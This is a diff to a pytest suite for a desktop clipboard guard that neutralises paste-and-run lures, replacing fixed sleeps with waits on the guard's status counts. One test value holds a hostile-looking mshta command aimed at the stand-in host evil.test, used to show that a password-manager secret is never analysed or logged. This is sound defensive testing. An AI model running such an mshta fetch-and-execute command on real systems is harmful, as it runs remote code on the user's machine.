@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import http.server
 import json
 import os
@@ -15,6 +16,7 @@ from pathlib import Path
 
 import pytest
 
+from app import ipc
 from app.guard.neutralize import NEUTRAL_LINE
 from tests.desktop import BIN, Desktop, desktop, serving, wait_for
 
@@ -131,10 +133,19 @@ def zombie(pid: int) -> bool:
         return True
 
 
+def counts(data: Path) -> dict[str, int]:
+    """The guard's own counts (`status`, asked from this process): texts analysed, taken off
+    the clipboard..."""
+    answer = ipc.request(data, {"cmd": "status"}) or {}
+    return dict(answer.get("counts") or {})
+
+
 def test_ordinary_text_is_left_alone_and_not_logged(guard: tuple[Desktop, Path]) -> None:
     d, data = guard
+    analysed = counts(data).get("analysed", 0)
     d.set_clipboard("Lunch at noon? The usual place.")
-    time.sleep(0.6)
+    # the barrier: the guard has judged it (a clean text is done with then), not a fixed 0.6 s
+    wait_for(lambda: counts(data).get("analysed", 0) > analysed, timeout=10)
     assert d.clipboard() == "Lunch at noon? The usual place."
     assert not [e for e in events(d, data) if e["kind"].startswith("clipboard")]  # type: ignore[union-attr]
 
@@ -161,10 +172,22 @@ def test_a_password_manager_item_is_never_stored(
     secret = "hunter2-VERY-SECRET mshta https://evil.test/x"  # malicious-looking, still a secret
     owner = d.start(str(BIN / "python"), "-c", OWNER, secret, stdout=subprocess.PIPE)
     assert owner.stdout is not None
+    before = counts(data)
     with owner.stdout:
         assert owner.stdout.readline().strip() == b"owned"
-    time.sleep(0.8)
-    assert d.clipboard() == secret  # not neutralised: never even analysed
+    assert d.clipboard() == secret
+    # the barrier (it was a fixed 0.8 s): a known lure after it, taken off the clipboard
+    d.set_clipboard(MALICIOUS)
+    lure = hashlib.sha256(MALICIOUS.encode()).hexdigest()
+
+    def logged() -> list[dict[str, object]]:
+        return [e for e in events(d, data) if str(e["kind"]).startswith("clipboard")]
+
+    wait_for(lambda: any(e["sha256"] == lure for e in logged()), timeout=10, step=0.1)
+    # the secret was never even analysed, let alone neutralised or logged: only the lure was
+    (event,) = logged()
+    assert event["sha256"] == lure and event["kind"] == "clipboard_neutralized"
+    assert counts(data).get("analysed", 0) == before.get("analysed", 0) + 1
     for path in data.rglob("*"):
         if path.is_file():
             assert b"VERY-SECRET" not in path.read_bytes(), path
